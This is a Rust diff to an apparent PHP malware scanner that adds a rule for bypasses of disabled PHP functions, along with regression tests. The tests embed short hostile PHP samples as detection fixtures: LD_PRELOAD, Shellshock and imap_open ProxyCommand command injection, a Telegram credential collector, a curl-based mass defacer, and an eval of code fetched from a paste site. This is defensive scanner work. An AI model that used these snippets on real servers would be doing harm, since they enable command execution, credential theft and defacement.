@@ -224,6 +224,11 @@ pub enum Why {
     /// Posts what visitors send (the whole request: forms, logins, payments) on to a web
     /// address it hides in its code: a server-side skimmer.
     SendsRequestToHiddenAddress,
+    /// Gets round the functions the host disabled in PHP (`disable_functions`) to run programs:
+    /// an exploit of PHP's memory (`zif_system` found in the process), a library preloaded into
+    /// the mail program (`LD_PRELOAD`), Shellshock through the environment, or a command hidden
+    /// in an IMAP address (`-oProxyCommand`).
+    BypassesPhpLimits,
     /// The checks failed on this file (a fault of ours): nothing is known of its content.
     CheckFailed,
 }
@@ -309,6 +314,7 @@ impl Why {
             Why::PrintsRemoteContent => "prints_remote_content",
             Why::InstallsCronJob => "installs_cron_job",
             Why::SendsRequestToHiddenAddress => "sends_request_to_hidden_address",
+            Why::BypassesPhpLimits => "bypasses_php_limits",
             Why::CheckFailed => "check_failed",
         }
     }
@@ -1539,5 +1545,97 @@ mod tests {
         // A worker that sleeps between jobs and makes nothing read-only.
         let worker = "<?php while (true) { $job = next_job(); file_put_contents('out/' . $job, 'x'); chmod('out/' . $job, 0644); sleep(5); }";
         assert!(!whys("worker.php", worker).contains(&Why::RewritesFilesForever));
+    }
+
+    #[test]
+    fn a_review_of_the_chat_bot_collector_finds_no_false_alarm() {
+        // Regression (review of fresh83's rule): a password only hashed, and fields named like
+        // a secret (`passengers`, `passport_number`, `cc_email`), in a form sent to a chat bot.
+        let hashed = "<?php $login = $_POST['login']; $password = $_POST['password'];\n\
+            $hash = sha1(\"$password\" . SALT);\n\
+            file_get_contents('https://api.telegram.org/bot' . TG . '/sendMessage?chat_id=1&text=' . urlencode('Admin login: ' . $login));";
+        assert!(whys("a.php", hashed).is_empty(), "{:?}", whys("a.php", hashed));
+        for field in ["passengers", "passport_number", "cc_email"] {
+            let form = format!(
+                "<?php $v = $_POST['{field}'];\n$text = \"*Value:* {{$v}}\";\n\
+                 file_get_contents('https://api.telegram.org/bot1:a/sendMessage?' . http_build_query(['text' => $text]));"
+            );
+            assert!(whys("form.php", &form).is_empty(), "{field}: {:?}", whys("form.php", &form));
+        }
+        // The request's field pasted straight in, the bot's host in capitals.
+        let direct = "<?php $text = \"Password: \" . $_POST['password'];\n\
+            file_get_contents('https://API.TELEGRAM.ORG/bot1:a/sendMessage?' . http_build_query(['text' => $text]));";
+        assert_eq!(whys("direct.php", direct), [Why::CredentialCollector]);
+    }
+
+    #[test]
+    fn cpanels_port_in_hosting_code_is_no_fake_login() {
+        // Regression (review): a plugin linking the account's cPanel, a WHM module's address, and
+        // a pattern's group.
+        for ok in [
+            "<?php $urls = array('http://' . $host . '/cpanel', 'https://' . $host . ':2083');",
+            "<?php function url() { return 'https://' . $this->config['host'] . ':2087'; }",
+            "<?php if (preg_match('/:(?:2082|2083)\\b/', $u)) { $cp = true; }",
+        ] {
+            assert!(whys("a.php", ok).is_empty(), "{ok}: {:?}", whys("a.php", ok));
+        }
+    }
+
+    #[test]
+    fn a_download_into_one_file_is_no_mass_defacer() {
+        // Regression (review): an update check whose output goes to `2>&1`, and an installer
+        // saving `latest.zip`, in files that walk folders and name `index.php` elsewhere.
+        let check = "<?php $out = shell_exec('curl -sS -m 5 https://api.wordpress.org/core/version-check/1.7/ 2>&1');\n\
+            foreach (scandir('/home') as $d) { if (file_exists(\"/home/$d/public_html/index.php\")) $s[] = $d; }";
+        assert!(!whys("a.php", check).contains(&Why::MassDefacer));
+        let installer = "<?php exec('wget -q https://wordpress.org/latest.zip -O latest.zip');\n\
+            foreach (glob('*') as $f) { echo $f; } $next = 'index.php';";
+        assert!(!whys("a.php", installer).contains(&Why::MassDefacer));
+        // The page named in the command itself.
+        let inline = "<?php foreach (scandir($root) as $d) { shell_exec(\"curl -s -o $root/$d/index.php https://x.example/t.html\"); }";
+        assert!(whys("x.php", inline).contains(&Why::MassDefacer), "{:?}", whys("x.php", inline));
+    }
+
+    #[test]
+    fn a_single_page_applications_scripts_are_no_cloaking() {
+        // Regression (review): the crawlers' snapshot and the service worker served whole.
+        let spa = "<?php $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n\
+            if (preg_match('/googlebot|bingbot/i', $ua)) { readfile(__DIR__ . '/prerendered/index.html'); exit; }\n\
+            if (substr($_SERVER['REQUEST_URI'], -6) === '/sw.js') { $js = file_get_contents(__DIR__ . '/sw.js'); echo $js; exit; }";
+        assert!(whys("index.php", spa).is_empty(), "{:?}", whys("index.php", spa));
+    }
+
+    #[test]
+    fn another_sites_text_included_by_an_assembled_address_is_code_from_the_internet() {
+        // Regression (review): `include` did not read an address whose host is a variable.
+        for src in [
+            "<?php $h = $cfg['host']; include \"http://\" . $h . \"/x.txt\";",
+            "<?php $h = $cfg['host']; include \"http://$h/x.txt\";",
+        ] {
+            assert!(whys("a.php", src).contains(&Why::CodeFromInternet), "{src}: {:?}", whys("a.php", src));
+        }
+        // A paste's raw address ends at `/raw`; the page run from an interpolated string.
+        let paste =
+            "<?php $f = implode('', array_map('chr', $c)); $x = $f('https://rentry.co/abc123/raw'); eval(\"?>$x\");";
+        assert!(whys("a.php", paste).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", paste));
+    }
+
+    #[test]
+    fn ways_round_disabled_functions_are_found() {
+        // Regression: fresh87's and fresh78's `disable_functions` bypasses.
+        let preload = "<?php putenv(\"LD_PRELOAD=/var/www/hack.so\"); mail('a@b.c', '', '', '');";
+        let shellshock = "<?php function s($cmd) { $tmp = tempnam('.', 'd'); putenv(\"PHP_LOL=() { x; }; $cmd >$tmp 2>&1\"); mail('a@127.0.0.1', '', '', '', '-bv'); }";
+        let imap = "<?php $server = \"x -oProxyCommand=echo\\t\" . base64_encode($_GET['cmd']) . \"|base64\\t-d|sh}\";\n\
+            imap_open('{' . $server . ':143/imap}INBOX', '', '');";
+        let memory = "<?php class Pwn { function run() { $zif_system = $this->get_system($funcs); $this->write($off, $zif_system); } }";
+        for src in [preload, shellshock, imap, memory] {
+            assert!(whys("x.php", src).contains(&Why::BypassesPhpLimits), "{src}: {:?}", whys("x.php", src));
+        }
+        // A time zone set for the programs PHP starts, and a mailbox opened.
+        let tz = "<?php putenv('TZ=Europe/Oslo'); putenv('LANG=' . $lang); mail($to, $s, $m);";
+        let mailbox = "<?php $mbox = imap_open('{imap.example.com:993/imap/ssl}INBOX', $user, $pass);";
+        for src in [tz, mailbox] {
+            assert!(whys("x.php", src).is_empty(), "{src}: {:?}", whys("x.php", src));
+        }
     }
 }
